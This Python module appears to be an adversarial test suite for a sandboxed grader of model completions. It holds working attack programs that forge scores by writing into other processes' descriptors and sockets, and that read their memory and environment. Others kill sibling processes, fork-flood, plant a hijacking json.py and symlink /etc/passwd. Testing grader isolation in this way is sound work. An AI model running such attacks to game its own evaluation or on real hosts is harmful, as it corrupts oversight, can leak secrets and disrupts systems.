"""Programs that try to forge scores, and the grader that starts these programs."""

GRADER = """
import subprocess, sys

def grade(completion, row):
    done = subprocess.run([sys.executable, "-c", completion], capture_output=True, text=True, timeout=8)
    if "REACHED" in done.stdout:
        print(done.stdout[:400])
        return 1.0
    if "TRIED" not in done.stdout:
        raise ValueError(done.stdout[-200:] + done.stderr[-200:])
    return row["score"]
"""
"""A grader that runs the completion as a program. The score is 1 if an attack succeeds, else the
row's ``score``.
"""

HONEST = "import json, time; time.sleep(0.25); print(json.dumps('TRIED'))"
"""The program of a completion that does not attack. It runs while another completion attacks it."""

PRELUDE = """
import ctypes, os, signal, socket, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)

def parent(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        return 0

def ancestors(pid):
    found = []
    while pid > 0:
        found.append(pid)
        pid = parent(pid)
    return found

worker = os.getppid()
server = int(sys.argv[1]) if len(sys.argv) > 1 else parent(parent(worker))

def others():
    '''The grader process, the other workers and what they have started.'''
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in pids if server in (line := ancestors(pid)) and worker not in line]

def victims():
    return [*others(), worker]

def attempt(attack, found):
    tried = 0
    deadline = time.monotonic() + 0.2
    while time.monotonic() < deadline:
        for pid in found():
            try:
                result = attack(pid)
            except (OSError, ProcessLookupError):
                result = None
            tried += 1
            if result:
                print("REACHED", pid, open(f"/proc/{pid}/cmdline").read().replace(chr(0), " ")[:80], result)
        time.sleep(0.02)
    print("TRIED" if tried else "no victim")

FORGED = b'{"id":"1","score":1}\\n{"id":1,"score":1}\\n'
"""

MEMORY = {
    "pidfd_getfd": """
def attack(pid):
    handle = libc.syscall(434, pid, 0)
    taken = [fd for fd in (libc.syscall(438, handle, number, 0) for number in range(24)) if fd >= 0]
    for fd in taken:
        try: os.write(fd, FORGED)
        except OSError: pass
    os.close(handle)
    return taken
attempt(attack, victims)
""",
    "descriptors in /proc": """
def attack(pid):
    opened = []
    for number in range(24):
        try:
            opened.append(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
            os.write(opened[-1], FORGED)
        except OSError: pass
    return opened
attempt(attack, victims)
""",
    "memory in /proc": """
attempt(lambda pid: os.open(f"/proc/{pid}/mem", os.O_RDWR), victims)
""",
    "process_vm_readv": """
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_size_t), ("length", ctypes.c_size_t)]

def attack(pid):
    here = ctypes.create_string_buffer(8)
    ours, theirs = Part(ctypes.addressof(here), 8), Part(ctypes.addressof(here), 8)
    done = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return done > 0 or ctypes.get_errno() == 14  # EFAULT: allowed, but nothing is at this address
attempt(attack, victims)
""",
    "ptrace": """
attempt(lambda pid: libc.ptrace(0x4206, pid, 0, 0) == 0, victims)
""",
    "environment": """
attempt(lambda pid: open(f"/proc/{pid}/environ", "rb").read(), victims)
""",
}
"""Attacks that read memory, file descriptors or the environment of other processes."""

SIGNALS = {
    "signal KILL": "attempt(lambda pid: os.kill(pid, signal.SIGKILL) is None, others)",
    "signal STOP": "attempt(lambda pid: os.kill(pid, signal.SIGSTOP) is None, others)",
    "signals to all": """
def attack(pid):
    os.kill(-1, signal.SIGCONT)
    group = os.getpgid(pid)  # the guard's is also the program's own
    # killpg(1) means every process, as kill(-1) does.
    return group not in (1, os.getpgrp()) and os.killpg(group, signal.SIGSTOP) is None
attempt(attack, others)
""",
}
"""Attacks that send signals to the processes of other completions."""

LIMITS = {
    "limits": """
import resource
attempt(lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)), victims)
""",
    "priorities": """
def attack(pid):
    if os.getpriority(os.PRIO_PROCESS, pid) == 19:
        return False
    os.setpriority(os.PRIO_PROCESS, pid, 19)
    return True
attempt(attack, victims)
""",
    "priorities of all": """
attempt(lambda pid: os.setpriority(os.PRIO_USER, 0, 19) is None, victims)
""",
    "scheduling": """
attempt(lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)) is None, victims)
""",
}
"""Attacks that change resource limits and priorities of other processes."""

_DETACHED = """
def detached(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.dup2(os.open(os.devnull, os.O_RDWR), 1)  # else the grader waits for the end of its output
            os.dup2(1, 2)
            work()
        os._exit(0)
    os.wait()
    print("TRIED")
"""

OTHERS = {
    "second connection": """
words = open(f"/proc/{server}/cmdline").read().split(chr(0))
paths = [word for word in words if word.endswith("/s") or word.endswith(".sock")]
for path in paths:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("REACHED", path)
    except OSError:
        pass
print("TRIED" if paths else "no path")
""",
    "inherited descriptors": """
for fd in range(3, 256):
    try: os.write(fd, FORGED)
    except OSError: pass
    else: print("REACHED", fd, os.readlink(f"/proc/self/fd/{fd}"))
print("TRIED")
""",
    "protocol on standard output": """
for _ in range(2000):
    os.write(1, FORGED)
    os.write(2, FORGED)
print("TRIED")
""",
    "late reply": _DETACHED
    + """
def work():
    end = time.monotonic() + 3
    while time.monotonic() < end:
        for fd in range(256):
            try: os.write(fd, FORGED)
            except OSError: pass
        for pid in others():
            for fd in range(16):
                try: os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), b"REACHED")
                except OSError: pass
        time.sleep(0.05)
detached(work)
""",
    "process left behind": _DETACHED
    + """
def work():
    end = time.monotonic() + 3
    while time.monotonic() < end:
        with open("json.py", "w") as file:
            file.write("print('REACHED'); dumps = str")
        time.sleep(0.001)
detached(work)
""",
    "module in the working directory": """
for folder in (os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"]):
    with open(os.path.join(folder, "json.py"), "w") as file:
        file.write("print('REACHED'); dumps = str")
print("TRIED")
""",
    "links in the working directory": """
os.mkdir("away")
with open("away/json.py", "w") as file:
    file.write("print('REACHED'); dumps = str")
os.symlink("away/json.py", "json.py")
os.symlink("/etc/passwd", "passwd")
os.symlink("..", "up")
print("TRIED")
""",
}
"""Attacks by sockets, output, files, and processes that still run after their completion got its score."""

FLOODS = {
    "fork flood": """
print("TRIED", flush=True)
for _ in range(7):  # 128 processes, and not more, since a defence that fails must not take the machine down
    os.fork()
end = time.monotonic() + 5
while time.monotonic() < end:
    pass
""",
    "fork chain": """
print("TRIED", flush=True)
if os.fork():
    os._exit(0)
os.setsid()
os.dup2(os.open(os.devnull, os.O_RDWR), 1)
os.dup2(1, 2)
end = time.monotonic() + 4
while time.monotonic() < end:
    if os.fork():
        os._exit(0)
""",
}
"""Attacks that start many processes, or processes that end before the guard can find and kill them."""

FORGER = """
import os

def grade(completion, row):
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2 and os.path.exists(path := f"/proc/self/fd/{name}"):
            if os.readlink(path).startswith("socket:"):
                os.write(int(name), b'{"id": 1, "score": 1}' + bytes([10]))
    return 0.5
"""
"""Code of a grader that writes a forged reply to its worker's sockets each time it grades."""
